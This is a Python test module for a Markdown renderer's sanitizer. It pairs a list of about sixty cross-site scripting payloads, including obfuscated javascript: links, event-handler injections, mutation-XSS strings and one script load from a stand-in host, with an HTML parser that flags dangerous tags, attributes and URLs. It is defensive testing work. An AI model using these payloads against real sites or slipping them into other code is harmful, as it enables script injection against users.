"""Payloads that try to run script through writer Markdown, and a checker for rendered HTML.

The checker parses HTML with the standard library's parser (as a browser would tokenise
it) instead of searching for substrings, so that `&lt;script&gt;` shown as text passes
while `<ScRiPt>` or an `onerror` attribute fails.
"""

import html
import re
from html.parser import HTMLParser

PAYLOADS = {
    "script-tag": "<script>alert(1)</script>",
    "script-src-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-in-paragraph": "Look: <img src=x onerror=alert(1)> here",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style-tag": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "link-javascript": "[click](javascript:alert(1))",
    "link-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "link-hex-entity": "[click](jav&#x61;script:alert(1))",
    "link-decimal-entity": "[click](&#106;avascript:alert(1))",
    "link-named-colon-entity": "[click](javascript&colon;alert(1))",
    "link-angle-brackets": "[click](<javascript:alert(1)>)",
    "link-vbscript": "[click](vbscript:msgbox(1))",
    "link-data-html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image-javascript": "![x](javascript:alert(1))",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "reference-link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "reference-image": "![x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
    "title-attribute-breakout": '[x](https://example.com "a\\" onmouseover=\\"alert(1))',
    "title-quote-breakout": "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    "alt-attribute-breakout": '![x" onerror="alert(1)](https://example.com/a.png)',
    "raw-anchor-javascript": '<a href="javascript:alert(1)">x</a>',
    "raw-anchor-entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "raw-anchor-tab": '<a href="java\tscript:alert(1)">x</a>',
    "raw-anchor-newline-entity": '<a href="java&#10;script:alert(1)">x</a>',
    "raw-anchor-tab-entity": '<a href="java&#9;script:alert(1)">x</a>',
    "raw-anchor-leading-controls": '<a href="&#1;&#32;javascript:alert(1)">x</a>',
    "raw-anchor-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "autolink-javascript": "<javascript:alert(1)>",
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": "<button formaction=javascript:alert(1)>x</button>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="javascript:alert(1)">',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "body-onload": "<body onload=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "footnote-payload": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "table-cell-payload": "| a |\n|---|\n| <script>alert(1)</script> |",
    "heading-payload": "## <img src=x onerror=alert(1)>",
    "heading-id-breakout": '## a" onmouseover="alert(1)',
    "fenced-code-language": '```"><script>alert(1)</script>\ncode\n```',
    "photo-reference-breakout": (
        '![" onerror="alert(1)](photo:1 "\\" onmouseover=\\"alert(1)")\n\n'
        "![<script>alert(1)</script>](photo:999)"
    ),
    "srcset-javascript": '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">',
    "class-and-id-clobbering": '<p id="main" class="skip-link" name="csrfmiddlewaretoken">x</p>',
}

FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "button",
    "input",
    "textarea",
    "select",
    "meta",
    "link",
    "base",
    "svg",
    "math",
    "noscript",
    "template",
    "marquee",
    "details",
    "body",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "xlink:href",
}
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_EDGE = "".join(chr(code) for code in range(0x21))


def dangerous_url(value: str) -> bool:
    """True for a URL a browser would run or render as a document: javascript:, data:, vbscript:."""
    # As the URL standard parses: tabs and newlines vanish anywhere, controls and spaces
    # are trimmed at both ends (a space inside "java script:" makes it a relative path).
    compact = _TAB_OR_NEWLINE.sub("", html.unescape(value)).strip(_EDGE).lower()
    candidates = [compact] + [part.strip(_EDGE) for part in compact.split(",")]
    return any(c.startswith(("javascript:", "data:", "vbscript:")) for c in candidates)


class Audit(HTMLParser):
    """Collects every way a piece of HTML could run script or load something harmful."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style":
                self.problems.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and value and dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            leaves_the_site = name == "href" and re.match(r"\s*(https?:)?//", value or "")
            if tag == "a" and leaves_the_site and "noopener" not in dict(attrs).get("rel", ""):
                self.problems.append("<a> without rel=noopener")

    handle_startendtag = handle_starttag


def problems_in(markup: str) -> list[str]:
    audit = Audit()
    audit.feed(markup)
    audit.close()
    if "<script" in markup.lower():
        audit.problems.append("'<script' in the markup")
    return audit.problems


def main_element(page: str) -> str:
    """The page's <main>: the part that shows what writers wrote (the head has <meta>s)."""
    start = page.index("<main")
    return page[start : page.index("</main>", start) + len("</main>")]


VOID_ELEMENTS = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}


class Balance(HTMLParser):
    """Checks that every element is closed, in order, as a well-formed fragment is."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in VOID_ELEMENTS:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        pass  # `<br/>`: opens and closes at once

    def handle_endtag(self, tag):
        if not self.open or self.open[-1] != tag:
            self.problems.append(f"</{tag}> closes {self.open[-1:] or 'nothing'}")
            return
        self.open.pop()


def unbalanced_in(markup: str) -> list[str]:
    """Elements left open or closed out of order; [] for a well-formed fragment."""
    balance = Balance()
    balance.feed(markup)
    balance.close()
    if balance.rawdata:
        balance.problems.append(f"unfinished markup {balance.rawdata[:20]!r}")
    return balance.problems + [f"<{tag}> never closed" for tag in balance.open]


def visible_text(markup: str) -> str:
    """The text a reader sees (markup removed, entities decoded)."""
    text = TextOnly()
    text.feed(markup)
    text.close()
    return "".join(text.parts)


class TextOnly(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)
